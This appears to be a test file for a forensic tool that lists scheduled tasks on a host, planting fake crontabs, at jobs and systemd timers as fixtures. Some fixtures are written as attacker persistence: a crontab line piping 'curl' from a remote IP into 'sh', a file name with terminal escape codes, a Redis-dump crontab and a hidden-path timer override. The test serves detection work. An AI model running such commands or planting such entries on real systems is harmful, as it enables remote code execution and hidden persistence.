// Schedules planted in a mount namespace of the machine the tests run on: every form, hostile names, dumps, fifos, dead links. By the real script under
// the real toolbox.
import { execFileSync } from 'node:child_process'
import { mkdirSync, rmSync, symlinkSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { busybox, ready } from '../../platform/here-fixture.ts'
import { bed, lookHere, of, spoiling } from '../../platform/look-here-fixture.ts'
import { shown } from '../host-text.ts'
import type { LookResult } from './look.ts'

describe.skipIf(!ready)('schedules planted on this machine (skipped: needs root and the toolbox)', () => {
  const { folder, plant } = bed()
  afterAll(() => {
    rmSync(folder, { recursive: true, force: true })
  })
  let result: LookResult
  const schedule = (path: string) => of(result, 'schedule').filter(({ file }) => shown(file.path).startsWith(path))
  beforeAll(async () => {
    plant('spool/cron/crontabs/root', '# m h\nMAILTO=""\n*/5 * * * * /tmp/.x/run >/dev/null\n@reboot /.hidden\n', 0o600)
    plant('spool/cron/crontabs/www\x1b[2J\ndata', '* * * * * curl -s http://203.0.113.9/a | sh\r# nothing here\n')
    plant(
      'spool/cron/redis',
      Buffer.from('REDIS0009\xfa\tredis-ver\x005.0.7\n\n*/2 * * * * /tmp/r\n\n\xff\x00\x01', 'latin1'),
    )
    plant('spool/cron/huge', '* * * * * /bin/true\n'.repeat(100_000))
    plant(
      'spool/cron/atjobs/a0000101c5a0b2',
      '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/bin; export PATH\ncd /root || {\n\t echo no >&2\n\t exit 1\n}\n/tmp/at-job now\n',
    )
    plant('cron.d/sys', 'SHELL=/bin/sh\n17 * * * * root cd / && /opt/x\n')
    plant('cron.d/fifo-link', '')
    rmSync(join(folder, 'cron.d/fifo-link'))
    execFileSync(busybox, ['mkfifo', join(folder, 'cron.d/fifo')])
    symlinkSync('/nowhere', join(folder, 'cron.d/dangling'))
    plant('system/evil.timer', '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5\nUnit=other.service\n')
    plant('system/other.service', '[Service]\nExecStart=/bin/false\n')
    for (const link of [
      'timers.target.wants/evil.timer',
      'x.target.requires/other.service',
      'y.target.wants/z.timer',
    ]) {
      mkdirSync(dirname(join(folder, 'system', link)), { recursive: true })
      symlinkSync('/nowhere', join(folder, 'system', link))
    }
    plant('system/other.service.d/x.conf', '[Service]\nExecStart=\nExecStart=-/tmp/.timer/run --now\n')
    result = await lookHere(
      ['schedulers'],
      // bound, not copied: each request has a scene of its own, and a copy would be another file
      [
        ['spool', '/var/spool'],
        ['cron.d', '/etc/cron.d'],
        ['system', '/etc/systemd/system'],
      ]
        .map(([from = '', to = '']) => `/bin/mount --bind ${folder}/${from} ${to}`)
        .join('\n'),
    )
  })

  it('reads a crontab line by line, environment too, comments not', () => {
    expect(
      schedule('/var/spool/cron/crontabs/root').map((fact) => [
        fact.line,
        fact.form,
        fact.periodSeconds,
        shown(fact.command),
      ]),
    ).toEqual([
      [2, 'environment', null, 'MAILTO=""'],
      [3, 'entry', 300, '/tmp/.x/run >/dev/null'],
      [4, 'entry', null, '/.hidden'],
    ])
    expect(schedule('/var/spool/cron/crontabs/root')[0]).toMatchObject({
      scheduler: 'user-crontab',
      user: 'root',
      file: { mode: '0600', type: 'file' },
    })
  })

  it('is not led astray by a file name with control characters', () => {
    expect(schedule('/var/spool/cron/crontabs/www')).toMatchObject([
      { user: 'www\\x1b[2J\\x0adata', disguised: true, periodSeconds: 60 },
    ])
  })

  it('shows a database dump as binary, with the entries cron would find in it', () => {
    expect(schedule('/var/spool/cron/redis').map(({ form, line }) => [form, line])).toEqual([
      ['binary', 0],
      ['entry', 3],
    ])
  })

  it('gives up on a crontab of 100 000 lines, and says so', () => {
    expect(schedule('/var/spool/cron/huge')).toHaveLength(2000)
    expect(spoiling(result).filter((text) => text.startsWith('/var/spool/cron/huge'))).not.toEqual([])
    expect(spoiling(result).filter((text) => !text.startsWith('/var/spool/cron/huge'))).toEqual([])
  })

  it('reads cron.d with its user column, and neither hangs on a fifo nor follows a dead link', () => {
    expect(schedule('/etc/cron.d/')).toMatchObject([
      { form: 'environment', line: 1 },
      { form: 'entry', line: 2, user: 'root', periodSeconds: 3600, command: 'cd / && /opt/x', paths: ['/opt/x'] },
    ])
  })

  it('reads an at job without the environment of its submitter', () => {
    expect(schedule('/var/spool/cron/atjobs/')).toMatchObject([
      { scheduler: 'at', user: 'root', command: '/tmp/at-job now' },
    ])
  })

  it('follows a timer to what its service runs after drop-ins', () => {
    expect(schedule('/etc/systemd/system/evil.timer')).toMatchObject([
      {
        scheduler: 'systemd-timer',
        periodSeconds: 5,
        command: '-/tmp/.timer/run --now',
        paths: ['/tmp/.timer/run'],
        unitFile: '/etc/systemd/system/other.service',
        enabledBy: [
          '/etc/systemd/system/timers.target.wants/evil.timer',
          '/etc/systemd/system/x.target.requires/other.service',
        ],
        user: 'root',
      },
    ])
  })
})
